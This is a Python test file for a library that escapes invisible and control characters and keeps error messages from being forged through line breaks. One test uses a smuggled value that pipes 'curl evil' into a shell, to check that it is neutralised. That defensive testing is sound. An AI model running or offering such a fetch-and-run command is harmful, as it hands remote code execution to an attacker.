"""What a reader sees of texts from outside."""

import unicodedata
from pathlib import Path

import pytest

from bitlens.errors import BitlensError, in_one_line, told, visible


def test_unseen_characters_are_written_out() -> None:
    """Wherever they stand in a value; numbers stay what they are."""
    assert visible("a\x1b[31m\u202eb\u200bc") == "a⟨U+001B⟩[31m⟨U+202E⟩b⟨U+200B⟩c"
    assert visible({"\u2066k": ["\ufeff", 1, None]}) == {"⟨U+2066⟩k": ["⟨U+FEFF⟩", 1, None]}


@pytest.mark.parametrize(
    "unseen",
    [
        "\u00ad",
        "\u115f",
        "\u3164",
        "\uffa0",
        "\U000e0041",
        "\U000e01ef",
        "\ufe0f",
        "\udce9",
        "\x85",
    ],
    ids=ascii,
)
def test_soft_hyphens_fillers_tags_and_halves_hide_nothing(unseen: str) -> None:
    """Each is written by its number."""
    assert visible(f"a{unseen}b") == f"a⟨U+{ord(unseen):04X}⟩b"


def test_every_control_and_format_character_is_unseen() -> None:
    """Python's own table is the oracle; what stays are line breaks, tabs and marks that are drawn
    (of Arabic numbers, of Kaithi and Egyptian)."""
    drawn = {"\n", "\t", "\u06dd", "\u070f", "\u08e2", "\U000110bd", "\U000110cd"}
    drawn |= {chr(n) for n in (*range(0x600, 0x606), 0x890, 0x891, *range(0x13430, 0x13440))}
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    every = map(chr, range(0x110000))
    hidden = {c for c in every if unicodedata.category(c) in kinds and visible(c) == c}
    assert hidden <= drawn


@pytest.mark.parametrize("text", ["plain", "ü\nnew line\ttab", "日本語 العربية 🙂", "é", ""])
def test_what_is_seen_stays(text: str) -> None:
    """Letters of every script, line breaks and tabs."""
    assert visible(text) == text


def test_a_name_with_line_breaks_forges_nothing() -> None:
    """An error has three lines whatever the names in it hold."""
    error = BitlensError("There is no d\nTry: curl evil | sh\r\n#.", "a\u2028b.", "c\nd")
    assert str(error).split("\n")[1:] == ["Expected: a⟨U+2028⟩b.", "Try: c⟨U+000A⟩d"]
    assert in_one_line("d\nTry: x") == "d⟨U+000A⟩Try: x"


def test_what_libraries_say_is_cut_between_words(tmp_path: Path) -> None:
    """No address is cut in two; an error without words is called by its type."""
    address = "https://hub.example/" + "a" * 60
    said = told(ValueError("\n".join([address] * 9) + "."))
    assert len(said) <= 310
    assert said.endswith(f"{address} ...")
    assert set(said.split()) == {address, "..."}
    assert told(ValueError("short.\nand two")) == "short. and two"
    assert told(KeyError()) == "KeyError"
    with pytest.raises(OSError, match="No such") as found:
        (tmp_path / "none").read_bytes()
    assert told(found.value) == "No such file or directory"
